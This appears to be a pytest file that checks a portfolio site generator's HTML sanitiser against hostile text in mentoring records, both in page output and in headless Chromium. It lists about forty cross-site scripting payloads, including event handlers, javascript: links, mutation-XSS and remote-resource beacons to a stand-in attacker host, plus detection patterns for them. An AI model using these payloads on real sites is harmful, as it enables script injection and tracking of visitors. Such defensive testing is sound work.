"""Hostile text in pair records: cleaned out of every portfolio page, checked in real Chromium.

The payloads go into a session's notes and into text fields of several records. The
portfolio is opened twice: as built (with its Content-Security-Policy) and as previewed
(without one, as `mentorsite serve --pair` serves it), so the cleaning alone must stop them.
"""

from __future__ import annotations

import html.parser
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import playwright.sync_api as playwright
import pytest

from mentorsite.pages.sanitising import sanitise
from mentorsite.site.preview import build_pair_edition
from tests.programs import BASE_PROGRAM, write_files
from tests.serving import serve
from tests.test_browser import browser, foreign_requests  # noqa: F401 - the browser fixture

HOST = "attacker.invalid"
EVIL = f"https://{HOST}"
PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img-onerror')>",
    "<svg onload=alert('svg-onload')><rect width=10 height=10 /></svg>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<a href=\"javascript:alert('link')\">a link</a>",
    "[a Markdown link](javascript:alert('markdown-link'))",
    "<a href=\"JaVaScRiPt:alert('mixed-case')\">mixed case</a>",
    "<a href=\"&#106;avascript:alert('entity')\">entity</a>",
    f"<form action=\"{EVIL}/form\"><input name=q autofocus onfocus=alert('form')><button>go</button></form>",
    "<details open ontoggle=alert('details')><summary>s</summary>d</details>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"javascript:alert('embed')\">",
    "<video><source onerror=alert('video')></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></p></noscript>",
    "<svg><a xlink:href=\"javascript:alert('svg-link')\"><text x=0 y=20>svg link</text></a></svg>",
    f"<img src=\"{EVIL}/pixel.png\">",
    f"![a remote image]({EVIL}/markdown.png)",
    f"<div style=\"background:url({EVIL}/background.png)\">styled</div>",
    f"<link rel=stylesheet href=\"{EVIL}/style.css\">",
    f"<style>@import '{EVIL}/import.css';</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('refresh')\">",
    f"<base href=\"{EVIL}/\">",
    "\"><script>alert('attribute-break')</script>",
    "<input type=image src=x onerror=alert('input-image')>",
    # Issue 16, break 3: what got through without a policy, and its siblings.
    f'<div id="__config">{{"base": "{EVIL}/", "features": ["navigation.instant"], "search": "{EVIL}/search.js", '
    f'"translations": {{}}, "version": {{"provider": "mike"}}}}</div>',
    "<h2 id=\"__search\">A heading with the search toggle's id</h2>",
    f"<img src=\"/\\{HOST}/backslash.png\">",
    f"<img src=\" //{HOST}/space.png\">",
    f"<img src=\"/&#9;/{HOST}/tab.png\">",
    f"<img src=\"&#1;/&#10;\\{HOST}/control.png\">",
    f"![a backslash image](/\\{HOST}/markdown-backslash.png)",
    f"<ul style=\"list-style:url({EVIL}/list.png)\"><li>a listed item</li></ul>",
    f"<ul style=\"list-style:\\75 rl(//{HOST}/escaped.png)\"><li>an escaped item</li></ul>",
    f"<div style=\"fill:url(//{HOST}/fill.svg#f)\">filled</div>",
    f"<svg width=\"20\" height=\"20\"><rect width=\"20\" height=\"20\" fill=\"url({EVIL}/paint.svg#p)\" "
    f"stroke=\"url(//{HOST}/stroke.svg#s)\"/></svg>",
    "<pre class=\"mermaid\">graph TD; A-->B</pre>",
    "<img name=\"__config\" src=\"clobbered.png\"><label for=\"__drawer\">a label for the drawer</label>",
    # Unclosed, it makes Markdown read the rest of its text as HTML: late, so that Markdown payloads are read.
    "<body onload=alert('body')>",
    # Last: it leaves <style> open, which makes the rest of its page that element's text (dropped).
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
]
FORBIDDEN = re.compile(r"<(script|iframe|object|embed|form|base|meta|link|style)\b|\son\w+\s*=|javascript:",
                       re.IGNORECASE)


def hostile_program(folder: Path) -> Path:
    def quoted(text: str) -> str:
        return json.dumps(text)

    agenda = "\n".join(f"  - {quoted(p)}" for p in PAYLOADS[:-1])
    notes = "\n\n".join(PAYLOADS[:-1])  # the last one goes only where nothing follows it: the closing's end
    return write_files(folder, {
        **BASE_PROGRAM,
        "content/pairs/ana-ben/sessions/2026-02-03.md": (
            f"---\ndate: 2026-02-03\nagenda:\n{agenda}\ngoals: [speaking]\nvisibility: review\n"
            f"actions:\n  - {{task: {quoted(PAYLOADS[1])}, owner: mentee}}\n"
            f"feedback: {{mentor: {quoted(PAYLOADS[2])}, mentee: {quoted(PAYLOADS[5])}}}\n---\n\n{notes}\n"),
        "content/pairs/ana-ben/goals/speaking.md": (
            f"---\ntitle: {quoted('Speak ' + PAYLOADS[0])}\nstatus: in-progress\nspecific: {quoted(PAYLOADS[1])}\n"
            f"milestones:\n  - {{title: {quoted(PAYLOADS[3])}}}\n---\n\n{notes}\n"),
        "content/pairs/ana-ben/closing.md": (
            f"---\ndate: 2026-04-01\noutcomes: [{quoted(PAYLOADS[6])}]\nfuture_contact: {quoted(PAYLOADS[9])}\n"
            f"---\n\n{notes}\n\n{PAYLOADS[-1]}\n"),
    })


def test_there_are_at_least_twenty_payloads() -> None:
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith(("<", '"'))])
def test_each_html_payload_is_cleaned_out(payload: str) -> None:
    cleaned = sanitise(f"<p>before</p>{payload}<p>after</p>")
    assert not FORBIDDEN.search(cleaned) and findings(cleaned) == [], payload


def test_what_the_templates_write_is_kept() -> None:
    kept = ('<h2 id="notes">Notes<a class="headerlink" href="#notes" title="Permanent link">¶</a></h2>'
            '<div class="admonition info"><p class="admonition-title">Pair edition</p></div>'
            '<label class="task-list-control"><input type="checkbox" disabled="" checked="">'
            '<span class="task-list-indicator"></span></label>'
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" role="img" aria-labelledby="t">'
            '<title id="t">A chart</title><circle cx="5" cy="5" r="2" style="fill:red"></circle></svg>'
            '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>')
    # Ids and what points at them get the prefix that keeps them apart from the theme's (issue 16).
    written = (kept.replace('title="Permanent link">', 'title="Permanent link" rel="noopener noreferrer">')
               .replace('id="notes"', 'id="r-notes"').replace('href="#notes"', 'href="#r-notes"')
               .replace('id="t"', 'id="r-t"').replace('aria-labelledby="t"', 'aria-labelledby="r-t"'))
    assert sanitise(kept) == written


@pytest.fixture(scope="module")
def hostile_sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    program = hostile_program(tmp_path_factory.mktemp("hostile") / "program")
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=program, check=True, capture_output=True,
                   env=environment)
    _, problems = build_pair_edition(program / "mkdocs.yml", "ana-ben", "pair", program / "preview" / "site",
                                     policy=False)
    assert problems == []
    return {"built": program / "site-private/pairs/ana-ben", "review": program / "site-private/review/ana-ben",
            "preview": program / "preview/site"}


class Findings(html.parser.HTMLParser):
    """Everything in a page that could run, frame, submit or call another host."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        theme_search = tag == "form" and ("class", "md-search__form") in attrs
        if tag in {"iframe", "object", "embed", "form", "base", "frame"} and not theme_search:
            self.found.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" and value == "refresh" for name, value in attrs):
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if value and ("javascript:" in value.lower().replace(" ", "") or HOST in value):
                self.found.append(f"<{tag} {name}={value}>")
        self.in_script = tag == "script"

    def handle_data(self, data: str) -> None:
        if self.in_script and ("alert" in data or HOST in data):
            self.found.append(f"<script>{data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False


def findings(text: str) -> list[str]:
    parser = Findings()
    parser.feed(text)
    return parser.found


@pytest.mark.parametrize("site", ["built", "review", "preview"])
def test_no_payload_reaches_a_page(hostile_sites: dict[str, Path], site: str) -> None:
    pages = sorted(hostile_sites[site].rglob("*.html"))
    assert len(pages) >= 4
    for page in pages:
        assert findings(page.read_text(encoding="utf-8")) == [], page
    # Search shows titles and text as HTML: the index must hold no live markup either.
    index = json.loads((hostile_sites[site] / "search/search_index.json").read_text(encoding="utf-8"))
    for entry in index["docs"]:
        assert findings(entry["title"]) == [] and findings(entry["text"]) == [], entry["location"]


def test_the_page_check_finds_what_it_looks_for() -> None:
    assert findings("<p>&lt;img onerror=alert(1)&gt;</p>") == []  # text, not a tag
    assert findings('<img src="x" onerror="alert(1)"><script>alert(2)</script><a href="JavaScript:x">') == [
        "<img onerror>", "<script>alert(2)", "<a href=JavaScript:x>"]


@pytest.fixture(scope="module")
def preview_url(hostile_sites: dict[str, Path]) -> Iterator[str]:
    yield from serve(hostile_sites["preview"])


@pytest.fixture(scope="module")
def built_url(hostile_sites: dict[str, Path]) -> Iterator[str]:
    yield from serve(hostile_sites["built"])


@pytest.mark.slow
@pytest.mark.parametrize("which", ["built_url", "preview_url"])
def test_no_dialog_opens_and_no_request_leaves_in_chromium(browser: playwright.Browser,  # noqa: F811
                                                             hostile_sites: dict[str, Path],
                                                             request: pytest.FixtureRequest, which: str) -> None:
    base: str = request.getfixturevalue(which)
    site = hostile_sites["preview" if which == "preview_url" else "built"]
    page = browser.new_page()
    dialogs: list[str] = []
    requested: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda sent: requested.append(sent.url))
    visited = 0
    for file in sorted(site.rglob("*.html")):
        page.goto(base + file.relative_to(site).as_posix())
        page.wait_for_load_state("networkidle")
        for link in page.locator("article a").all()[:40]:
            link.hover()  # event handlers on hover or focus would fire now
        visited += 1
    assert visited >= 4
    assert dialogs == []
    assert foreign_requests(requested, base) == []
